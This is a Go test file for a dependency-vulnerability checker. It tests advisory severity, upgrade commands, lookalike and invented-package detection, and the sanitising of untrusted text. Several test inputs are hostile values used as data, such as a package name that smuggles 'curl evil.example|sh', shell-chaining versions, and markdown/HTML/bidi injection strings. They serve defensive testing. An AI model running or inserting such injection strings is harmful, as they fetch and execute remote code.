package judge

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/assay-app/assay/checks"
)

var now = time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)

func newJudge(tb testing.TB) *Judge {
	tb.Helper()
	j, err := New()
	if err != nil {
		tb.Fatal(err)
	}
	return j
}

// lodash is a direct dependency at the head.
func lodash(change func(*checks.Package)) checks.Package {
	p := checks.Package{
		Ecosystem: "npm", Name: "lodash", Version: "4.17.11", Role: checks.Direct,
		Location: checks.Location{Path: "package.json", Start: checks.Position{Line: 3, Column: 5}, End: checks.Position{Line: 3, Column: 25}},
		Pin:      &checks.Range{Start: checks.Position{Line: 3, Column: 16}, End: checks.Position{Line: 3, Column: 23}},
	}
	if change != nil {
		change(&p)
	}
	return p
}

func answersFor(change func(*Advisory)) Answers {
	a := Advisory{ID: "GHSA-jf85-cpcp-j695", Aliases: []string{"CVE-2019-10744"}, Summary: "Prototype pollution in lodash.", Severity: checks.Critical, Score: 9.1, CWE: []string{"CWE-1321"}, Fixed: "4.17.12"}
	if change != nil {
		change(&a)
	}
	ref := Ref{Name{"npm", "lodash"}, "4.17.11"}
	return Answers{Now: now, Advisories: map[Ref][]Advisory{ref: {a}}, Safe: map[Ref]string{ref: "4.17.21"}}
}

func TestAdvisoryFinding(t *testing.T) {
	found := newJudge(t).Findings([]checks.Package{lodash(nil)}, answersFor(nil))
	if len(found) != 1 {
		t.Fatalf("%d findings", len(found))
	}
	f := found[0]
	want := "`lodash` `4.17.11` has a known vulnerability, GHSA-jf85-cpcp-j695 (CVE-2019-10744): Prototype pollution in lodash (CVSS 9.1). " +
		"The lowest later version without a known hole is `4.17.21`. Whoever reads the advisory knows how to use it against this version."
	if diff := cmp.Diff(want, f.Message); diff != "" {
		t.Error(diff)
	}
	if f.Severity != checks.Critical || f.Title != "Vulnerable package: lodash 4.17.11" || f.Location.Path != "package.json" {
		t.Errorf("%+v", f)
	}
	if diff := cmp.Diff(&checks.PackageFact{Ecosystem: "npm", Name: "lodash", Version: "4.17.11", Advisory: "GHSA-jf85-cpcp-j695",
		Aliases: []string{"CVE-2019-10744"}, Fixed: "4.17.21", Summary: "Prototype pollution in lodash"}, f.Package); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]checks.Edit{{Path: "package.json", Start: checks.Position{Line: 3, Column: 16}, End: checks.Position{Line: 3, Column: 23}, NewText: "4.17.21"}}, f.Remediation.Edits); diff != "" {
		t.Errorf("the pinned version is replaced by the safe one: %s", diff)
	}
}

func TestSeverityOfAnAdvisory(t *testing.T) {
	for name, test := range map[string]struct {
		pkg      func(*checks.Package)
		advisory func(*Advisory)
		want     checks.Severity
		rule     checks.RuleID
	}{
		"is the advisory's own":                            {want: checks.Critical},
		"is the rule's when nobody scored it":              {advisory: func(a *Advisory) { a.Severity, a.Score = "", 0 }, want: checks.Medium},
		"is low when nobody scored what nobody here named": {pkg: func(p *checks.Package) { p.Role = checks.Transitive }, advisory: func(a *Advisory) { a.Severity, a.Score = "", 0 }, want: checks.Low},
		"is a step lower for what only tests need":         {pkg: func(p *checks.Package) { p.Group = "dev" }, want: checks.High},
		"stays for what is optional":                       {pkg: func(p *checks.Package) { p.Group = "optional" }, want: checks.Critical},
		"stays for what is exploited, also in tests":       {pkg: func(p *checks.Package) { p.Group = "dev" }, advisory: func(a *Advisory) { a.Exploited = true }, want: checks.Critical},
		"never falls below low":                            {pkg: func(p *checks.Package) { p.Group = "dev" }, advisory: func(a *Advisory) { a.Severity = checks.Low }, want: checks.Low},
		"of malware is critical, whatever its score":       {advisory: func(a *Advisory) { a.Malicious, a.Severity = true, checks.Low }, want: checks.Critical, rule: malicious},
		"of malware is critical, in tests as well":         {pkg: func(p *checks.Package) { p.Group = "dev" }, advisory: func(a *Advisory) { a.Malicious = true }, want: checks.Critical, rule: malicious},
		"stays where a mirror may have fetched the same":   {pkg: func(p *checks.Package) { p.Origin = checks.Mirror }, want: checks.Critical},
		"there is none for a private package":              {pkg: func(p *checks.Package) { p.Origin = checks.Private }},
		"there is none for a folder of the repository":     {pkg: func(p *checks.Package) { p.Origin = checks.Local }},
		"there is none for a range":                        {pkg: func(p *checks.Package) { p.Version, p.Requirement = "", "^4.17.11" }},
		"there is none for another version":                {pkg: func(p *checks.Package) { p.Version = "4.17.21" }},
	} {
		t.Run(name, func(t *testing.T) {
			found := newJudge(t).Findings([]checks.Package{lodash(test.pkg)}, answersFor(test.advisory))
			if test.want == "" {
				if len(found) != 0 {
					t.Errorf("found %+v", found)
				}
				return
			}
			if test.rule == "" {
				test.rule = vulnerable
			}
			if len(found) != 1 || found[0].Severity != test.want || found[0].Rule != test.rule {
				t.Errorf("found %+v", found)
			}
		})
	}
}

func TestGoDirectiveIsForTheRecord(t *testing.T) {
	ref := Ref{Name{"Go", "stdlib"}, "1.21.0"}
	p := lodash(func(p *checks.Package) { p.Ecosystem, p.Name, p.Version = "Go", "stdlib", "1.21.0" })
	found := newJudge(t).Findings([]checks.Package{p}, Answers{Now: now, Advisories: map[Ref][]Advisory{ref: {{ID: "GO-2024-1", Severity: checks.High}}}})
	if len(found) != 1 || found[0].Severity != checks.Info {
		t.Errorf("found %+v", found)
	}
}

func TestAPackageThatIsMaliciousInEveryVersionNeedsNone(t *testing.T) {
	p := lodash(func(p *checks.Package) { p.Name, p.Version, p.Pin = "left-padder", "", nil })
	ref := Ref{Name{"npm", "left-padder"}, ""}
	found := newJudge(t).Findings([]checks.Package{p}, Answers{Now: now, Advisories: map[Ref][]Advisory{ref: {{ID: "MAL-2025-1", Summary: "Takes tokens", Malicious: true}}}})
	if len(found) != 1 || found[0].Rule != malicious || strings.Contains(found[0].Message, "``") {
		t.Errorf("found %+v", found)
	}
}

func TestAnAdvisoryIsOneAcrossVersions(t *testing.T) {
	base := lodash(func(p *checks.Package) { p.Version, p.Revision = "4.17.10", checks.AtMergeBase })
	answers := answersFor(nil)
	answers.Advisories[Ref{Name{"npm", "lodash"}, "4.17.10"}] = answers.Advisories[Ref{Name{"npm", "lodash"}, "4.17.11"}]
	found := newJudge(t).Findings([]checks.Package{base, lodash(nil)}, answers)
	if len(found) != 2 || found[0].Fingerprint != found[1].Fingerprint || found[0].Revision == found[1].Revision {
		t.Errorf("a hole that the version before had as well is the same finding: %+v", found)
	}
}

func TestUpgradeSaysWhatToDo(t *testing.T) {
	inLock := func(path checks.Path, role checks.Role) func(*checks.Package) {
		return func(p *checks.Package) { p.Location.Path, p.Role, p.Pin = path, role, nil }
	}
	for name, test := range map[string]struct {
		pkg  func(*checks.Package)
		safe string
		want string
	}{
		"at a line that can be edited": {safe: "4.17.21", want: "Write `4.17.21` here, and bring the lockfile up to date if there is one."},
		"in a lockfile, a direct one":  {pkg: inLock("web/package-lock.json", checks.Direct), safe: "4.17.21", want: "Run `npm install lodash@4.17.21`."},
		"in a lockfile, one below":     {pkg: inLock("package-lock.json", checks.Transitive), safe: "4.17.21", want: "Run `npm update lodash` and see that the lockfile then holds `4.17.21` or later; if a package in between forbids it, upgrade that one or override the version."},
		"where no command is known":    {pkg: inLock("stack.txt", checks.Direct), safe: "4.17.21", want: "Move to version `4.17.21` or later."},
		"where no version is safe":     {want: "No version without known holes is known: replace the package, or show in the pull request that the hole cannot be reached and record the exception."},
		"a name that a shell would read": {pkg: func(p *checks.Package) {
			p.Pin, p.Location.Path, p.Name = nil, "package-lock.json", "lodash;curl evil.example|sh"
		}, safe: "4.17.21", want: "Move to version `4.17.21` or later."},
		"a version that a shell would read":     {pkg: inLock("package-lock.json", checks.Direct), safe: "4.17.21 && x", want: "Move to version `4.17.21 && x` or later."},
		"a name that begins like an option":     {pkg: func(p *checks.Package) { p.Pin, p.Location.Path, p.Name = nil, "package-lock.json", "--registry" }, safe: "4.17.21", want: "Move to version `4.17.21` or later."},
		"a version that begins like an option":  {pkg: inLock("yarn.lock", checks.Direct), safe: "-4", want: "Move to version `-4` or later."},
		"in the lockfile of another ecosystem":  {pkg: inLock("Cargo.lock", checks.Transitive), safe: "4.17.21", want: "Run `cargo update -p lodash --precise 4.17.21`."},
		"in a lockfile whose name says no more": {pkg: inLock("go.mod", checks.Direct), safe: "4.17.21", want: "Run `go get lodash@v4.17.21`."},
	} {
		t.Run(name, func(t *testing.T) {
			p := lodash(test.pkg)
			if got := newJudge(t).upgrade(&p, test.safe); got != test.want {
				t.Errorf("got %s", got)
			}
		})
	}
}

func TestStandingOfANewName(t *testing.T) {
	days := func(n int) time.Time { return now.AddDate(0, 0, -n) }
	for name, test := range map[string]struct {
		pkg      func(*checks.Package)
		name     string
		standing Standing
		want     checks.RuleID
	}{
		"that the registry does not know is invented":          {name: "lodash-utils-pro", standing: Standing{State: Nonexistent, Authoritative: true}, want: invented},
		"that only deps.dev does not know is a question":       {name: "lodash-utils-pro", standing: Standing{State: Nonexistent}, want: unknown},
		"in a scope that the registry does not know is one":    {name: "@somebody/x", standing: Standing{State: Nonexistent, Authoritative: true}, want: unknown},
		"of a program that may be installed is one":            {name: "codegen-x", pkg: func(p *checks.Package) { p.Program = true }, standing: Standing{State: Nonexistent, Authoritative: true}, want: unknown},
		"that another index may have is none":                  {name: "acme-x", pkg: func(p *checks.Package) { p.Origin = checks.Mixed }, standing: Standing{State: Nonexistent, Authoritative: true}},
		"that policy calls private is none":                    {name: "acme-x", pkg: func(p *checks.Package) { p.Reserved = true }, standing: Standing{State: Nonexistent, Authoritative: true}},
		"that policy calls private and strangers have":         {name: "acme-x", pkg: func(p *checks.Package) { p.Reserved = true }, standing: Standing{State: Exists, First: days(900), Releases: 9}, want: confusion},
		"without an answer is none":                            {name: "lodash-utils-pro", standing: Standing{State: Unanswered}},
		"that was taken down is malware":                       {name: "lodash-utils-pro", standing: Standing{State: Removed}, want: removed},
		"that is established is none":                          {name: "lodash-utils-pro", standing: Standing{State: Exists, First: days(900), Releases: 9}},
		"that is young and has few releases":                   {name: "pad-x", standing: Standing{State: Exists, First: days(3), Releases: 1}, want: young},
		"that is young and has many releases is none":          {name: "pad-x", standing: Standing{State: Exists, First: days(3), Releases: 40}},
		"whose age nobody knows is none":                       {name: "pad-x", standing: Standing{State: Exists, Releases: 1}},
		"that is young, in a lockfile alone, is none":          {name: "pad-x", pkg: func(p *checks.Package) { p.Role = checks.Transitive }, standing: Standing{State: Exists, First: days(3), Releases: 1}},
		"one slip from a known one, and new":                   {name: "lodahs", standing: Standing{State: Exists, First: days(100), Releases: 30}, want: lookalike},
		"one slip from a known one, in a lockfile alone":       {name: "lodahs", pkg: func(p *checks.Package) { p.Role = checks.Transitive }, standing: Standing{State: Exists, First: days(100), Releases: 30}, want: lookalike},
		"a known one's number two, that goes on":               {name: "lodash4", standing: Standing{State: Exists, First: days(200), Releases: 22}},
		"a known one's number two, with few releases":          {name: "lodash4", standing: Standing{State: Exists, First: days(200), Releases: 3}, want: lookalike},
		"a known one's number two, in its first weeks":         {name: "lodash4", standing: Standing{State: Exists, First: days(20), Releases: 22}, want: lookalike},
		"one slip from a known one, and old is none":           {name: "lodahs", standing: Standing{State: Exists, First: days(2000), Releases: 30}},
		"with a version that the registry does not have":       {name: "pad-x", standing: Standing{State: Exists, Authoritative: true, First: days(900), Versions: Presence{"4.17.11": false}}, want: noVersion},
		"with a version built for one system":                  {name: "torch", pkg: func(p *checks.Package) { p.Ecosystem, p.Version = "PyPI", "2.0.1+cu118" }, standing: Standing{State: Exists, Authoritative: true, First: days(900), Versions: Presence{"2.0.1+cu118": false}}},
		"with a version that only deps.dev does not have":      {name: "pad-x", standing: Standing{State: Exists, First: days(900), Versions: Presence{"4.17.11": false}}},
		"with a version that nobody was asked about":           {name: "pad-x", standing: Standing{State: Exists, Authoritative: true, First: days(900), Versions: Presence{}}},
		"of a package that comes from git is nobody's to know": {name: "pad-x", pkg: func(p *checks.Package) { p.Origin = checks.Git }, standing: Standing{State: Nonexistent, Authoritative: true}},
	} {
		t.Run(name, func(t *testing.T) {
			p := lodash(test.pkg)
			p.Name = test.name
			test.standing.Source = "npm.example"
			found := newJudge(t).Findings([]checks.Package{p}, Answers{Now: now, Standings: map[Name]Standing{{"npm", test.name}: test.standing}})
			switch {
			case test.want == "" && len(found) > 0:
				t.Errorf("found %+v", found)
			case test.want != "" && (len(found) != 1 || found[0].Rule != test.want):
				t.Errorf("want %s, found %+v", test.want, found)
			}
		})
	}
}

func TestAnImportIsInventedOnlyIfNoneOfItsNamesExists(t *testing.T) {
	p := lodash(func(p *checks.Package) {
		p.Ecosystem, p.Name, p.Version, p.Role, p.Requirement, p.Guesses = "PyPI", "promptguard", "", checks.Imported, "promptguard", []string{"python-promptguard"}
	})
	standing := func(first, second State) map[Name]Standing {
		return map[Name]Standing{{"PyPI", "promptguard"}: {State: first, Source: "pypi.example", Authoritative: true}, {"PyPI", "python-promptguard"}: {State: second, Source: "pypi.example", Authoritative: true}}
	}
	j := newJudge(t)
	if found := j.Findings([]checks.Package{p}, Answers{Now: now, Standings: standing(Nonexistent, Nonexistent)}); len(found) != 1 || found[0].Rule != noImport || !strings.Contains(found[0].Message, "`promptguard`, `python-promptguard`") {
		t.Errorf("neither exists: %+v", found)
	}
	for name, standings := range map[string]map[Name]Standing{
		"one exists": standing(Nonexistent, Exists), "one has no answer": standing(Nonexistent, Unanswered), "nobody was asked": nil,
	} {
		if found := j.Findings([]checks.Package{p}, Answers{Now: now, Standings: standings}); len(found) != 0 {
			t.Errorf("%s: %+v", name, found)
		}
	}
}

func TestNothingThatOthersWroteIsMoreThanText(t *testing.T) {
	hostile := "x`\n# @everyone [a](https://evil.example) <img src=x> \u202e{advisory}" + strings.Repeat("y", 10_000)
	p := lodash(func(p *checks.Package) { p.Name, p.Version, p.Pin = hostile, hostile, nil })
	ref := Ref{Name{"npm", hostile}, hostile}
	answers := Answers{
		Now: now, Safe: map[Ref]string{ref: hostile},
		Advisories: map[Ref][]Advisory{ref: {{ID: hostile, Summary: hostile, Aliases: []string{"CVE-1 " + hostile}, Fixed: hostile}}},
	}
	for _, f := range newJudge(t).Findings([]checks.Package{p}, answers) {
		for _, text := range []string{f.Title, f.Message, f.Remediation.Text, f.Package.Summary} {
			if strings.ContainsAny(text, "\n\u202e") || len(text) > 3000 || strings.Count(text, "`")%2 != 0 {
				t.Errorf("%d bytes: %q", len(text), text)
			}
		}
		if len(f.Remediation.Edits) > 0 || strings.ContainsAny(f.Remediation.References[0], " \n<>()[]`@") {
			t.Errorf("%v %q", f.Remediation.Edits, f.Remediation.References)
		}
	}
}

func TestAsk(t *testing.T) {
	pkg := func(ecosystem, name, version string, change func(*checks.Package)) checks.Package {
		p := checks.Package{Ecosystem: ecosystem, Name: name, Version: version, Role: checks.Direct}
		if change != nil {
			change(&p)
		}
		return p
	}
	q := Ask([]checks.Package{
		pkg("npm", "old", "1.0.0", func(p *checks.Package) { p.Revision = checks.AtMergeBase }),
		pkg("npm", "old", "1.1.0", nil),
		pkg("npm", "below", "1.0.0", func(p *checks.Package) { p.Role = checks.Transitive }),
		pkg("npm", "direct", "", nil),
		pkg("npm", "twice", "2.0.0", nil), pkg("npm", "twice", "1.0.0", nil), pkg("npm", "twice", "2.0.0", nil),
		pkg("npm", "@acme/own", "1.0.0", func(p *checks.Package) { p.Origin = checks.Private }),
		pkg("npm", "mirrored", "1.0.0", func(p *checks.Package) { p.Origin = checks.Mirror }),
		pkg("npm", "folder", "1.0.0", func(p *checks.Package) { p.Origin = checks.Local }),
		pkg("PyPI", "guess", "", func(p *checks.Package) { p.Role, p.Guesses = checks.Imported, []string{"python-guess"} }),
		pkg("GitHub Actions", "acme/deploy", "3", nil),
		pkg("conda", "numpy", "2.0", nil),
	})
	ref := func(ecosystem, name, version string) Ref { return Ref{Name{ecosystem, name}, version} }
	want := Questions{
		Refs: []Ref{
			ref("GitHub Actions", "acme/deploy", "3"), ref("npm", "below", "1.0.0"), ref("npm", "direct", ""), ref("npm", "old", "1.0.0"),
			ref("npm", "old", "1.1.0"), ref("npm", "twice", "1.0.0"), ref("npm", "twice", "2.0.0"),
		},
		Hidden: []Ref{ref("npm", "mirrored", "1.0.0")},
		Names: []Question{
			{Name{"PyPI", "guess"}, nil}, {Name{"PyPI", "python-guess"}, nil}, {Name{"npm", "direct"}, nil},
			{Name{"npm", "twice"}, []string{"1.0.0", "2.0.0"}}, {Name{"npm", "below"}, []string{"1.0.0"}},
		},
	}
	if diff := cmp.Diff(want, q); diff != "" {
		t.Error(diff)
	}
}

func FuzzJudge(f *testing.F) {
	j := newJudge(f)
	f.Add("lodash", "4.17.11", "GHSA-1", "summary", "4.17.21")
	f.Add("{advisory}", "`", "<b>", "\xff\u202e", "; rm")
	f.Fuzz(func(t *testing.T, name, version, id, summary, fixed string) {
		p := lodash(func(p *checks.Package) { p.Name, p.Version = name, version })
		ref := Ref{Name{"npm", name}, version}
		found := j.Findings([]checks.Package{p}, Answers{
			Now: now, Safe: map[Ref]string{ref: fixed}, Advisories: map[Ref][]Advisory{ref: {{ID: id, Summary: summary, Fixed: fixed}}},
			Standings: map[Name]Standing{{"npm", name}: {State: Nonexistent, Source: id}},
		})
		for _, f := range found {
			if strings.Contains(f.Message, "\n") || strings.Count(f.Message, "`")%2 != 0 || strings.Count(f.Remediation.Text, "`")%2 != 0 {
				t.Errorf("%q | %q", f.Message, f.Remediation.Text)
			}
			for _, e := range f.Remediation.Edits {
				if strings.ContainsAny(e.NewText, " \n\"';`$") {
					t.Errorf("edit %q", e.NewText)
				}
			}
		}
	})
}
